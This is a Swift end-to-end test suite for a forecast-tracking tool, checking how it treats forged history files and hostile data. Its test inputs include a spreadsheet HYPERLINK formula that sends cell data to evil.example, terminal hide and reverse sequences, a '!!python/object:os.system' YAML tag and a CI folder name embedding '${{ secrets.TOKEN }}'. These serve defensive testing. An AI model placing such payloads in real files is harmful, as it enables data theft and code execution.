import Foundation
import TestSupport
import Testing

/// History files someone else wrote or broke, and outputs built from hostile data: a forged or
/// damaged run is reported and left out (never taken as the previous run), and nothing from the data
/// becomes a formula, Markdown structure or a terminal sequence.
@Suite("Hostile history files and outputs (end to end)")
struct HostileHistoryAndOutputTests {
    private static let environment = ["TRACK_RUNNER": "alice"]

    private static let predictions = SampleFiles.cheapForecast

    private func workspace(_ extra: [String: String] = [:]) throws -> TemporaryWorkspace {
        try TemporaryWorkspace(["predictions.yaml": Self.predictions, "indicators/price.yaml": SampleFiles.price].merging(extra) { $1 })
    }

    private func evaluate(_ workspace: TemporaryWorkspace, on day: String, _ extra: [String] = []) throws -> TrackProcess.Output {
        try TrackProcess.run(["evaluate"] + extra, in: workspace.root, environment: Self.environment.merging(["TRACK_TODAY": day]) { $1 })
    }

    /// The recorded run files under `history/`, relative to it.
    private func runFiles(_ workspace: TemporaryWorkspace) throws -> [String] {
        let base = workspace.path("history")
        return (FileManager.default.enumerator(atPath: base)?.allObjects as? [String] ?? []).filter { $0.hasSuffix(".jsonl") }.sorted()
    }

    /// FNV-1a, 64 bits (Fowler, Noll, Vo; the offset basis and prime of the published algorithm): the
    /// first eight hex digits are the digest in a recorded run's file name.
    private func digest(_ text: String) -> String {
        var hash: UInt64 = 14_695_981_039_346_656_037
        for byte in text.utf8 {
            hash ^= UInt64(byte)
            hash = hash &* 1_099_511_628_211
        }
        return String(String(format: "%016llx", hash).prefix(8))
    }

    /// Writes `text` as a run file named as track names one: `YYYY/MM/TIME-RUNNER-DIGEST.jsonl`.
    private func writeGenuinelyNamed(_ text: String, time: String, runner: String, in workspace: TemporaryWorkspace) throws -> String {
        let stamp = time.replacingOccurrences(of: ":", with: "-")
        let name = "\(stamp.prefix(4))/\(stamp.dropFirst(5).prefix(2))/\(stamp)-\(runner)-\(digest(text)).jsonl"
        try workspace.write("history/" + name, text)
        return name
    }

    @Test("a second run file of the same time and runner with a made-up digest is reported and left out, never the previous run")
    func forgedRun() throws {
        let workspace = try workspace()
        #expect(try evaluate(workspace, on: "2025-10-01").status == 0)
        let genuine = try #require(try runFiles(workspace).first)
        let text = try String(contentsOfFile: workspace.path("history/" + genuine), encoding: .utf8)
        // The same header, the forecasts said to be missed: a change that never happened.
        let forged = text.replacingOccurrences(of: #""status":"[a-z-]+""#, with: #""status":"missed""#, options: .regularExpression)
        #expect(forged != text)
        let forgedName = String(genuine.dropLast(14)) + "deadbeef.jsonl"
        try workspace.write("history/" + forgedName, forged)
        let marker = workspace.path("notified")
        let next = try evaluate(workspace, on: "2025-10-02", ["--notify-command", "touch \(marker)"])
        #expect(next.status == 65, "\(next.stderr)")
        #expect(next.stderr.contains("history/\(forgedName):1:1: error: the file's name does not match its contents"), "\(next.stderr)")
        #expect(next.stdout.contains("no change since the run of 2025-10-01"), "\(next.stdout)")
        #expect(!FileManager.default.fileExists(atPath: marker))
        // Nothing changed, so no run file was added; the forged one was not taken for a change.
        #expect(try runFiles(workspace).count == 2)
    }

    @Test("two correctly named runs of one time and runner with other contents are both left out")
    func conflictingRuns() throws {
        let workspace = try workspace()
        let header =
            #"{"asOf":"2025-10-01","format":1,"kind":"recorded","recordedAt":"2025-10-01T07:00:00Z","runner":"bob","trackVersion":"x"}"#
        let first = header + "\n" + #"{"evidence":[],"id":"cheap","probability":0.5,"status":"on-track","summary":"a"}"# + "\n"
        let second = header + "\n" + #"{"evidence":[],"id":"cheap","probability":0.9,"status":"ahead","summary":"b"}"# + "\n"
        let names = [
            try writeGenuinelyNamed(first, time: "2025-10-01T07:00:00Z", runner: "bob", in: workspace),
            try writeGenuinelyNamed(second, time: "2025-10-01T07:00:00Z", runner: "bob", in: workspace),
        ]
        let history = try TrackProcess.run(["history", "cheap", "--format", "csv"], in: workspace.root)
        #expect(history.status == 65)
        for name in names { #expect(history.stderr.contains("history/\(name):1:1: error: 2 runs recorded at"), "\(history.stderr)") }
        #expect(history.stdout.split(separator: "\n").count == 1, "\(history.stdout)")
    }

    @Test("probabilities of 5, -3 and 1e308 in a run file are reported with file:line and the run left out; the others are read")
    func impossibleValues() throws {
        let workspace = try workspace()
        #expect(try evaluate(workspace, on: "2025-10-01").status == 0)
        var names: [String] = []
        for (index, probability) in ["5", "-3", "1e308"].enumerated() {
            let time = "2025-10-0\(index + 2)T07:00:00Z"
            let text =
                #"{"asOf":"2025-10-0\#(index + 2)","format":1,"kind":"recorded","recordedAt":"\#(time)","runner":"bob","trackVersion":"x"}"#
                + "\n" + #"{"evidence":[],"id":"cheap","probability":\#(probability),"status":"on-track","summary":"a"}"# + "\n"
            names.append(try writeGenuinelyNamed(text, time: time, runner: "bob", in: workspace))
        }
        let history = try TrackProcess.run(["history", "cheap", "--format", "json"], in: workspace.root)
        #expect(history.status == 65, "\(history.stderr)")
        for name in names {
            #expect(history.stderr.contains("history/\(name):2:1: error: 'cheap' has the probability"), "\(history.stderr)")
        }
        let points = try JSONSerialization.jsonObject(with: Data(history.stdout.utf8)) as? [String: Any]
        #expect((points?["history"] as? [Any])?.count == 1, "\(history.stdout)")
        let next = try evaluate(workspace, on: "2025-10-05")
        #expect(next.status == 65 && !next.stdout.contains("inf%"), "\(next.stdout)")
        #expect(next.stdout.contains("since the run of 2025-10-01"), "\(next.stdout)")
    }

    @Test("a run file with CRLF line ends (a Windows clone) reads as it was written")
    func crlf() throws {
        let workspace = try workspace()
        #expect(try evaluate(workspace, on: "2025-10-01").status == 0)
        let name = try #require(try runFiles(workspace).first)
        let text = try String(contentsOfFile: workspace.path("history/" + name), encoding: .utf8)
        try workspace.write("history/" + name, text.replacingOccurrences(of: "\n", with: "\r\n"))
        try FileManager.default.removeItem(atPath: workspace.path(".track"))
        for command in [["history", "cheap"], ["score"], ["report", "--format", "json"]] {
            let output = try TrackProcess.run(command, in: workspace.root)
            #expect(output.status == 0, "\(command): \(output.stderr)")
        }
        let next = try evaluate(workspace, on: "2025-10-02")
        #expect(next.status == 0 && next.stdout.contains("since the run of 2025-10-01"), "\(next.stderr)")
    }

    @Test("an empty, merge-marked or invalid run file is reported and skipped: evaluate, report, score and history go on, exit 65")
    func brokenFiles() throws {
        let workspace = try workspace()
        #expect(try evaluate(workspace, on: "2025-10-01").status == 0)
        try workspace.write("history/2025/10/2025-10-02T07-00-00Z-bob-00000000.jsonl", "")
        try workspace.write("history/2025/10/2025-10-03T07-00-00Z-bob-00000000.jsonl", "<<<<<<< HEAD\n{}\n=======\n>>>>>>> other\n")
        try workspace.write("history/2025/10/2025-10-04T07-00-00Z-bob-00000000.jsonl", "{not json\n")
        for command in [["history", "cheap"], ["score"], ["report", "--format", "json"]] {
            let output = try TrackProcess.run(command, in: workspace.root)
            #expect(output.status == 65, "\(command): \(output.stderr)")
            #expect(output.stderr.contains("3 history files left out"), "\(command): \(output.stderr)")
            #expect(output.stderr.contains("history/2025/10/2025-10-03T07-00-00Z-bob-00000000.jsonl:1:1: error:"), "\(output.stderr)")
        }
        let next = try evaluate(workspace, on: "2025-10-05")
        #expect(next.status == 65 && next.stdout.contains("since the run of 2025-10-01"), "\(next.stdout)\(next.stderr)")
    }

    @Test("two runs within one second by one runner get two slots, so neither is ever refused as a conflict")
    func sameSecond() throws {
        let workspace = try workspace()
        // A forecast more each day, so that each run changes something and is written.
        var predictions = Self.predictions
        for (index, day) in ["2025-10-01", "2025-10-02", "2025-10-03"].enumerated() {
            if index > 0 {
                predictions += """
                      - id: cheap-\(index)
                        statement: The price falls to 0.\(index).
                        source: article
                        made: 2024-12-01
                        deadline: 2026-12-31
                        criteria: Yes if the price falls to 0.\(index).
                        evaluate:
                          threshold: {indicator: price, target: 0.\(index)}

                    """
                try workspace.write("predictions.yaml", predictions)
            }
            #expect(try evaluate(workspace, on: day).status == 0)
        }
        #expect(try runFiles(workspace).count == 3)
        let history = try TrackProcess.run(["history", "cheap", "--format", "csv"], in: workspace.root)
        #expect(history.status == 0 && history.stdout.split(separator: "\n").count == 4, "\(history.stdout)\(history.stderr)")
    }

    @Test("a deleted index is said to be rebuilt from history/, not lost")
    func deletedIndex() throws {
        let workspace = try workspace()
        #expect(try evaluate(workspace, on: "2025-10-01").status == 0)
        // A what-if run is kept in the index alone, which the user's ledger of histories notes.
        #expect(try evaluate(workspace, on: "2025-10-01", ["--as-of", "2025-09-01"]).status == 0)
        try FileManager.default.removeItem(atPath: workspace.path(".track/history.sqlite"))
        let history = try TrackProcess.run(["history", "cheap"], in: workspace.root)
        #expect(history.status == 0)
        #expect(history.stderr.contains("are read again from history/"), "\(history.stderr)")
        #expect(!history.stderr.contains("restore the old file"), "\(history.stderr)")
    }

    @Test("CSV output neutralises cells a spreadsheet would run as formulas; plain negative numbers stay numbers")
    func csvFormulas() throws {
        let indicator = """
            name: Price
            unit: usd
            observations:
              - date: 2025-01-01
                subject: '=HYPERLINK("http://evil.example/?"&A1,"Click")'
                value: -3.5
                source: https://example.com/a
              - date: 2025-01-02
                subject: '@SUM(A1)'
                value: 2
                source: https://example.com/a

            """
        let workspace = try workspace(["predictions.yaml": SampleFiles.twoForecasts, "indicators/price.yaml": indicator])
        let output = try TrackProcess.run(
            ["indicators", "--format", "csv"], in: workspace.root, environment: ["TRACK_TODAY": "2025-02-01"])
        #expect(output.status == 0, "\(output.stderr)")
        let lines = output.stdout.split(separator: "\n")
        #expect(lines.contains { $0.hasPrefix(#"price,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-3.5,"#) }, "\(output.stdout)")
        #expect(lines.contains { $0.hasPrefix("price,'@SUM(A1),2") }, "\(output.stdout)")
        #expect(!lines.contains { $0.contains(",=") || $0.contains(",@") }, "\(output.stdout)")
    }

    @Test("sequences in the data are escaped before track adds its colours: ESC[8m cannot hide text, U+202E cannot reverse it")
    func terminal() throws {
        let predictions = Self.predictions.replacingOccurrences(
            of: "statement: The price falls to 0.5.", with: "statement: \"The price \\e[8mfalls\\e[0m to 0.5 \\u202Edesrever.\"")
        #expect(predictions != Self.predictions)
        let workspace = try workspace(["predictions.yaml": predictions])
        let output = try TrackProcess.run(["explain", "cheap", "--color", "always"], in: workspace.root)
        #expect(output.status == 0, "\(output.stderr)")
        #expect(output.stdout.contains("The price \\u001B[8mfalls\\u001B[0m to 0.5 \\u202Edesrever."), "\(output.stdout)")
        #expect(!output.stdout.contains("\u{1B}[8m") && !output.stdout.contains("\u{202E}"))
        // track's own colours are still there.
        #expect(output.stdout.contains("\u{1B}[1mcheap\u{1B}[0m"), "\(output.stdout)")
    }

    @Test("Markdown: two forecasts' charts never share a file; statements that look like a list, a rule or code stay text")
    func markdown() throws {
        let predictions = """
            sources:
              - {id: s, title: "A | B"}
            predictions:
              - id: a-1
                statement: "- x | y"
                source: s
                made: 2025-01-01
                deadline: 2026-12-31
                criteria: "1. first"
                evaluate: {threshold: {indicator: b, target: 0.5}}
              - id: a
                statement: "---"
                source: s
                made: 2025-01-01
                deadline: 2026-12-31
                criteria: "    code"
                evaluate: {threshold: {indicator: 1-b, target: 0.5}}

            """
        let workspace = try workspace([
            "predictions.yaml": predictions, "indicators/b.yaml": SampleFiles.price, "indicators/1-b.yaml": SampleFiles.price,
        ])
        let folder = workspace.path("out") + "/"
        let output = try TrackProcess.run(["report", "--format", "markdown", "--output", folder], in: workspace.root)
        #expect(output.status == 0, "\(output.stderr)")
        let charts = try FileManager.default.contentsOfDirectory(atPath: folder + "charts")
        let text = try String(contentsOfFile: folder + "report.md", encoding: .utf8)
        let linked = text.components(separatedBy: "](charts/").count - 1
        #expect(charts.count == linked && Set(charts).count == charts.count, "\(charts) against \(linked) links")
        #expect(output.stderr.contains("and \(linked) charts"), "\(output.stderr)")
        #expect(text.contains("\n\\- x | y\n") && text.contains("\n\\---\n"), "\(text)")
        #expect(text.contains("Criteria: 1\\. first") && text.contains("Criteria: code"), "\(text)")
        #expect(!text.contains("\\\\|"), "\(text)")
    }

    @Test("a temporary file left by a killed write is removed by the next write of that file, and init's .gitignore lists them")
    func staleTemporaries() throws {
        let workspace = try workspace()
        // A process id above Linux's largest (pid_max is at most 2^22): no such process runs.
        let stale = workspace.path("indicators/.price.yaml.9999999.0123456789abcdef.track-tmp")
        try "half a file".write(toFile: stale, atomically: false, encoding: .utf8)
        let other = workspace.path("indicators/.other.yaml.9999999.0123456789abcdef.track-tmp")
        try "not ours".write(toFile: other, atomically: false, encoding: .utf8)
        let output = try TrackProcess.run(
            ["record", "price", "0.7", "--date", "2025-06-01", "--source", "https://example.com/r"], in: workspace.root)
        #expect(output.status == 0, "\(output.stderr)")
        #expect(!FileManager.default.fileExists(atPath: stale))
        #expect(FileManager.default.fileExists(atPath: other))
        let fresh = try TemporaryWorkspace()
        #expect(try TrackProcess.run(["init", fresh.root + "/ws"], in: fresh.root).status == 0)
        #expect(try String(contentsOfFile: fresh.root + "/ws/.gitignore", encoding: .utf8).contains("\n*.track-tmp\n"))
    }

    @Test("input that was accepted though wrong is refused with its place: a foreign tag, a file name that is no id, an empty evaluate")
    func acceptedThoughWrong() throws {
        let tagged = Self.predictions.replacingOccurrences(of: "criteria: ", with: "notes: !!python/object:os.system x\n    criteria: ")
        #expect(tagged != Self.predictions)
        for (files, expected) in [
            (["predictions.yaml": tagged], "the tag '!!python/object:os.system' is not one track reads"),
            (["indicators/Bad Name.yaml": SampleFiles.price], "the file name 'Bad Name' is not a valid indicator id"),
        ] {
            let workspace = try workspace(files)
            let output = try TrackProcess.run(["validate"], in: workspace.root)
            #expect(output.status == 65, "\(expected): \(output.stderr)")
            #expect(output.stderr.contains(expected), "\(output.stderr)")
        }
        let nullEvaluate = try workspace([
            "predictions.yaml": SampleFiles.predictions(
                """
                  - id: bare
                    statement: Something happens.
                    source: article
                    made: 2025-01-01
                    deadline: 2026-12-31
                    criteria: Yes if it happens.
                    evaluate:

                """)
        ])
        let output = try TrackProcess.run(["validate"], in: nullEvaluate.root)
        #expect(output.status == 65 && output.stderr.contains("'evaluate' is empty"), "\(output.stderr)")
    }

    @Test("--backfill from year 1 every day is refused at once, naming the bound", .timeLimit(.minutes(1)))
    func backfillBound() throws {
        let workspace = try workspace()
        let output = try TrackProcess.run(
            ["evaluate", "--backfill", "--from", "0001-01-01", "--every", "1d"], in: workspace.root,
            environment: ["TRACK_TODAY": "2025-10-01"])
        #expect(output.status == 64, "\(output.stderr)")
        #expect(output.stderr.contains("makes more than 5000 steps"), "\(output.stderr)")
        #expect(!FileManager.default.fileExists(atPath: workspace.path("history")))
    }

    @Test("thousands of repeated observations on one date give twenty warnings and a count of the rest")
    func foldedWarnings() throws {
        let repeated = (1...3_000).map { _ in "  - {date: 2025-01-01, value: 1.0, source: https://example.com/a}" }.joined(separator: "\n")
        let workspace = try workspace(["indicators/price.yaml": "name: Price\nunit: usd\nobservations:\n" + repeated + "\n"])
        let output = try TrackProcess.run(["validate"], in: workspace.root)
        #expect(output.stderr.components(separatedBy: "warning: observation repeats").count - 1 == 20, "\(output.stderr.prefix(400))")
        #expect(output.stderr.contains("warning: and 2,979 more like it"), "\(output.stderr.suffix(400))")
        #expect(output.stderr.utf8.count < 20_000)
    }

    @Test("init --ci writes no job through a linked .github/workflows, and refuses a folder name a job would run")
    func initCI() throws {
        let repository = try TemporaryWorkspace(["Package.swift": #"let package = Package(name: "track")"#])
        try Self.gitInit(repository.root)
        #expect(try TrackProcess.run(["init", repository.root + "/ws"], in: repository.root).status == 0)
        let outside = FileManager.default.temporaryDirectory.appendingPathComponent("track-outside-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: outside, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: outside) }
        try FileManager.default.createDirectory(atPath: repository.path(".github"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: repository.path(".github/workflows"), withDestinationPath: outside)
        let linked = try TrackProcess.run(["init", "--ci", "github", repository.root + "/ws"], in: repository.root)
        #expect(linked.status == 73, "\(linked.stderr)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: outside).isEmpty)

        let hostile = try TemporaryWorkspace(["Package.swift": #"let package = Package(name: "track")"#])
        try Self.gitInit(hostile.root)
        let folder = hostile.root + "/x${{ secrets.TOKEN }}"
        let output = try TrackProcess.run(["init", "--ci", "github", folder], in: hostile.root)
        #expect(output.status == 64, "\(output.stderr)")
        #expect(output.stderr.contains("holds characters a CI job cannot carry safely"), "\(output.stderr)")
        #expect(!FileManager.default.fileExists(atPath: hostile.path(".github/workflows/track.yml")))
    }

    /// `git init -q` in `directory`, so that init --ci finds the repository's root there.
    private static func gitInit(_ directory: String) throws {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["git", "init", "-q", directory]
        try process.run()
        process.waitUntilExit()
    }

    @Test("trust --status on a plugins/ folder that loops says it cannot be read, not that there is none")
    func trustLoop() throws {
        let workspace = try workspace()
        try FileManager.default.createDirectory(atPath: workspace.path("plugins"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: workspace.path("plugins/loop"), withDestinationPath: ".")
        let output = try TrackProcess.run(["trust", "--status"], in: workspace.root)
        #expect(output.stdout.contains("cannot read") && !output.stdout.contains("has no plugins/ folder"), "\(output.stdout)")
    }
}
